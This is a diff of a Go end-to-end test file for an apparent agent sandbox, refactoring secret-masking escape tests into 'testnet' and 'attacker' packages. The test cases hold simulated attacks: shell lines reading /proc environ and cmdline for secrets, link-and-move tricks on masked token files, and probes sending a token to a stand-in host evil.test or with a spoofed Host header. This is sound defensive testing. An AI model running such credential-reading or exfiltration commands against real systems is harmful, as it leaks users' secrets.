@@ -7,6 +7,10 @@ import (
 	"fmt"
 	"os"
 	"strings"
+
+	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/testnet"
+
+	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/attacker"
 )
 
 // tokenValue is the value of the secret that is masked in these cases.
@@ -35,17 +39,17 @@ func placeholders() []escape {
 		}
 		return err
 	}
-	api := &online{Good: []string{"api.test"}, Asks: []string{".test"}, Naive: true}
-	auth := probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"}
+	api := &testnet.Limits{Good: []string{"api.test"}, Asks: []string{".test"}, Naive: true}
+	auth := attacker.Probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"}
 	return []escape{
 		{
-			ID: "F24.6", Name: "a masked variable's value is in no variable, argument or file", Matrix: rowSecrets, Flags: tokenFlags, Net: &online{},
+			ID: "F24.6", Name: "a masked variable's value is in no variable, argument or file", Matrix: rowSecrets, Flags: tokenFlags, Net: &testnet.Limits{},
 			Env: append([]string{"COPY=" + tokenValue, "HARMLESS=a" + tokenValue}, tokenEnv...),
 			Sh: inside + `[ "$API_TOKEN" ] || echo BROKEN no placeholder; env; for f in $procs/environ $procs/cmdline $procs/task/*/environ; do tr '\0' '\n' <$f; done 2>/dev/null
 				cat $SSL_CERT_FILE; [ $inside ] && grep -r CANARY.41d /run/agent-sandbox /tmp /dev/shm {work} {home} 2>/dev/null; true`,
 		},
 		{
-			ID: "F24.7", Name: "a masked file shows its value under no name", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"}, Env: servers, Net: &online{},
+			ID: "F24.7", Name: "a masked file shows its value under no name", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"}, Env: servers, Net: &testnet.Limits{},
 			Sh: `[ -s conf/token ] || echo BROKEN no placeholder; cat conf/token /proc/self/root{work}/conf/token /proc/self/cwd/conf/token; dd if=conf/token
 				ln conf/token t1; ln -s conf/token t2; cat t1 t2; cp -a conf copy; cat copy/token; echo x >conf/token; rm -f conf/token; mv conf/token t3; cat t3 conf/token
 				mv conf moved; cat moved/token; tar cf - . | tr '\0' '\n' | grep -a CANARY.41d; env; true`,
@@ -60,7 +64,7 @@ func placeholders() []escape {
 			},
 		},
 		{
-			ID: "F24.8", Name: "nor to a later command, whatever this one leaves behind", Matrix: rowSecrets, Setup: masked, Env: servers, Net: &online{}, Ends: true, Hold: kept,
+			ID: "F24.8", Name: "nor to a later command, whatever this one leaves behind", Matrix: rowSecrets, Setup: masked, Env: servers, Net: &testnet.Limits{}, Ends: true, Hold: kept,
 			Flags: []string{"-c", "{home}/policy.json"},
 			Launch: []string{"/bin/sh", "-c", `box='{run}'
 				$box sh -c 'mv conf moved; mkdir conf; ln moved/token t1; mv conf/token t2; rm -rf conf; ln -s moved conf; mkdir -p conf; echo x >conf/token'
@@ -69,7 +73,7 @@ func placeholders() []escape {
 		},
 		{
 			ID: "F24.9", Name: "no process that runs for it has a value in its arguments or environment", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"},
-			Env: servers, Net: &online{}, Hold: noted,
+			Env: servers, Net: &testnet.Limits{}, Hold: noted,
 			Sh: inside + `[ ! $inside ] || [ "$FROM_FILE" -a "$FROM_COMMAND" ] || echo BROKEN no placeholders; echo ready; read go`,
 			During: func(h *host, _ *attempt) {
 				all := h.processes()
@@ -92,7 +96,7 @@ func placeholders() []escape {
 			}},
 		},
 		{
-			ID: "F24.10", Name: "nothing that agent-sandbox prints or records has a value in it", Matrix: rowSecrets, Setup: masked, Env: append(tokenEnv, "COPY="+tokenValue), Net: &online{}, Ends: true,
+			ID: "F24.10", Name: "nothing that agent-sandbox prints or records has a value in it", Matrix: rowSecrets, Setup: masked, Env: append(tokenEnv, "COPY="+tokenValue), Net: &testnet.Limits{}, Ends: true,
 			Launch: []string{"/bin/sh", "-c", `box={base}/../agent-sandbox; flags='` + strings.Join(tokenFlags[:4], " ") + ` --allow http://a.allowed.test'
 				for how in --json --debug --dry-run '--record {scratch}.jsonc'; do
 					for c in 'curl -s -H @- http://a.allowed.test/' 'curl -s -H @- https://api.test:9/' 'curl -s -H @- http://127.0.0.1:3128/' 'no-such-program'; do
@@ -106,17 +110,17 @@ func placeholders() []escape {
 		{
 			ID: "F24.11", Name: "a value does not go to a server that is not who it says, and into no error", Matrix: rowSecrets, Env: tokenEnv,
 			Flags: []string{"--secret", "API_TOKEN=badcert.test,api.test:9,api.test", "--allow", "badcert.test,api.test,api.test:9", "--ca", "ephemeral"},
-			Net:   &online{Good: []string{"api.test", "badcert.test"}, Naive: true}, Hold: onlyBound,
-			Go: sends(auth, probe{Via: "connect", To: "badcert.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"},
-				probe{Via: "connect", To: "api.test:9", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, probe{Via: "connect", To: "evil.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}),
+			Net:   &testnet.Limits{Good: []string{"api.test", "badcert.test"}, Naive: true}, Hold: onlyBound,
+			Go: sends(auth, attacker.Probe{Via: "connect", To: "badcert.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"},
+				attacker.Probe{Via: "connect", To: "api.test:9", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, attacker.Probe{Via: "connect", To: "evil.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}),
 		},
 		{
 			ID: "F24.12", Name: "a placeholder is refused on its way to another host: URL, query, field, name, cookie, login", Matrix: rowSecrets,
-			Env: tokenEnv, Flags: tokenFlags, Net: api, Hold: onlyBound, Go: sends(append([]probe{auth}, elsewhere()...)...),
+			Env: tokenEnv, Flags: tokenFlags, Net: api, Hold: onlyBound, Go: sends(append([]attacker.Probe{auth}, elsewhere()...)...),
 		},
 		{
 			ID: "F24.13", Name: "and in a body, however it is cut", Matrix: rowSecrets, Env: tokenEnv, Flags: tokenFlags, Hold: onlyBound,
-			Net: &online{Good: []string{"api.test", "allowed.test", "a.allowed.test"}, Naive: true}, Go: sends(append([]probe{auth}, bodies()...)...),
+			Net: &testnet.Limits{Good: []string{"api.test", "allowed.test", "a.allowed.test"}, Naive: true}, Go: sends(append([]attacker.Probe{auth}, bodies()...)...),
 		},
 		{
 			ID: "F24.14", Name: "a value goes into the one field of the one host and port that it is bound to", Matrix: rowSecrets, Env: servers,
@@ -125,15 +129,15 @@ func placeholders() []escape {
 					"API_TOKEN": {"from_file": "~/.vault-token", "hosts": ["api.test"], "header": "Authorization"}}}`)
 				h.vars["sent"] = canary
 			},
-			Flags: []string{"-c", "{home}/policy.json"}, Net: &online{Good: []string{"api.test"}, Asks: []string{"sub.api.test"}, Naive: true}, Hold: onlyBound,
+			Flags: []string{"-c", "{home}/policy.json"}, Net: &testnet.Limits{Good: []string{"api.test"}, Asks: []string{"sub.api.test"}, Naive: true}, Hold: onlyBound,
 			Sh: inside + `[ $inside ] || API_TOKEN=$(cat {home}/.vault-token); export API_TOKEN; {attacker} ` + strings.Join(sends(
-				auth, probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Target: "/@SECRET@?@SECRET@", Fields: "X-Other: @SECRET@\r\nCookie: a=@SECRET@\r\nContent-Length: @LENGTH@\r\n", Body: "@SECRET@"},
-				probe{Via: "plain", To: "http://api.test/", Fields: "Authorization: @SECRET@\r\n"}, probe{Via: "connect", To: "api.test:80", Fields: "Authorization: @SECRET@\r\n"},
-				probe{Via: "connect", To: "api.test:8443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, probe{Via: "connect", To: "sub.api.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"},
-				probe{Via: "connect", To: "api.test:443", TLS: true, Host: "evil.test", Fields: "Authorization: @SECRET@\r\n"}), " "),
+				auth, attacker.Probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Target: "/@SECRET@?@SECRET@", Fields: "X-Other: @SECRET@\r\nCookie: a=@SECRET@\r\nContent-Length: @LENGTH@\r\n", Body: "@SECRET@"},
+				attacker.Probe{Via: "plain", To: "http://api.test/", Fields: "Authorization: @SECRET@\r\n"}, attacker.Probe{Via: "connect", To: "api.test:80", Fields: "Authorization: @SECRET@\r\n"},
+				attacker.Probe{Via: "connect", To: "api.test:8443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, attacker.Probe{Via: "connect", To: "sub.api.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"},
+				attacker.Probe{Via: "connect", To: "api.test:443", TLS: true, Host: "evil.test", Fields: "Authorization: @SECRET@\r\n"}), " "),
 		},
 		{
-			ID: "F24.15", Name: "neither the key of a CA that is made for the run nor the login of an upstream proxy is seen", Matrix: rowSecrets, Net: &online{},
+			ID: "F24.15", Name: "neither the key of a CA that is made for the run nor the login of an upstream proxy is seen", Matrix: rowSecrets, Net: &testnet.Limits{},
 			Setup: func(h *host) {
 				h.write("home/.config/agent-sandbox/config.jsonc", `{"network": {"allow": ["GET https://allowed.test/**"], "ca": "ephemeral", "upstream": "http://me:`+canary+`@93.184.216.50:80"}}`)
 			},
@@ -141,8 +145,8 @@ func placeholders() []escape {
 				cat {home}/.config/agent-sandbox/config.jsonc; cat /proc/self/root{home}/.config/agent-sandbox/*; env; for f in $procs/environ $procs/cmdline; do tr '\0' '\n' <$f; done 2>/dev/null; true`,
 		},
 		{
-			ID: "F24.16", Name: "neither is the key of a CA of one's own", Matrix: rowSecrets, Net: &online{},
-			Setup: func(h *host) { h.write("home/own-ca.pem", h.world.authority.pem) },
+			ID: "F24.16", Name: "neither is the key of a CA of one's own", Matrix: rowSecrets, Net: &testnet.Limits{},
+			Setup: func(h *host) { h.write("home/own-ca.pem", h.world.Authority.PEM) },
 			Flags: []string{"--ca", "{home}/own-ca.pem", "--allow", "GET https://allowed.test/**"},
 			Sh: inside + `[ ! $inside ] || [ -s "$SSL_CERT_FILE" ] || echo BROKEN no CA; for f in {home}/own-ca.pem /proc/self/root{home}/own-ca.pem $SSL_CERT_FILE; do grep 'PRIVATE KEY' $f && echo OPEN $f; done
 				ln {home}/own-ca.pem own; cp {home}/own-ca.pem own; mv {home}/own-ca.pem own; grep 'PRIVATE KEY' own && echo OPEN own; true`,
@@ -151,14 +155,14 @@ func placeholders() []escape {
 }
 
 // sends makes the arguments of an attack that sends the token.
-func sends(list ...probe) []string {
-	return append([]string{"send", "API_TOKEN"}, probes(list...)[1:]...)
+func sends(list ...attacker.Probe) []string {
+	return append([]string{"send", "API_TOKEN"}, attacker.ProbeArgs(list...)[1:]...)
 }
 
 // elsewhere are requests with a placeholder to hosts that the secret is not bound to.
-func elsewhere() []probe {
-	var out []probe
-	for _, p := range []probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}, {Via: "connect", To: "a.allowed.test:80"}} {
+func elsewhere() []attacker.Probe {
+	var out []attacker.Probe
+	for _, p := range []attacker.Probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}, {Via: "connect", To: "a.allowed.test:80"}} {
 		for _, fields := range []string{
 			"Authorization: Bearer @SECRET@", "Authorization: Basic @BASIC@", "authorization: basic   @BASIC@", "Cookie: a=b; t=@SECRET@", "X-@SECRET@: x", "User-Agent: x@SECRET@y",
 			"X-Api-Key: @SECRET@\r\nAuthorization: x",
@@ -179,10 +183,10 @@ func elsewhere() []probe {
 }
 
 // bodies are cut so that no piece has all of the placeholder.
-func bodies() []probe {
-	var out []probe
-	for _, p := range []probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}} {
-		p.Method, p.Expect = "POST", verdictPermitted
+func bodies() []attacker.Probe {
+	var out []attacker.Probe
+	for _, p := range []attacker.Probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}} {
+		p.Method, p.Expect = "POST", testnet.Permitted
 		p.Fields, p.Body = "Content-Length: @LENGTH@\r\n", "@SECRET@"
 		out = append(out, p)
 		p.Fields = "Transfer-Encoding: chunked\r\n"
@@ -203,11 +207,11 @@ func onlyBound(h *host, _ outcome) error {
 	}
 	var errs []error
 	arrived := false
-	for _, v := range h.world.seen() {
-		bound := v.host == "api.test" && v.tls && v.to.Port() == 443
-		if bound && strings.Contains(v.header.Get("Authorization"), canary) {
+	for _, v := range h.world.Visits() {
+		bound := v.Host == "api.test" && v.TLS && v.To.Port() == 443
+		if bound && strings.Contains(v.Header.Get("Authorization"), canary) {
 			arrived = true
-			v.header.Del("Authorization")
+			v.Header.Del("Authorization")
 		}
 		text := v.String()
 		if strings.Contains(text, canary) || !bound && strings.Contains(text, string(sent)) {
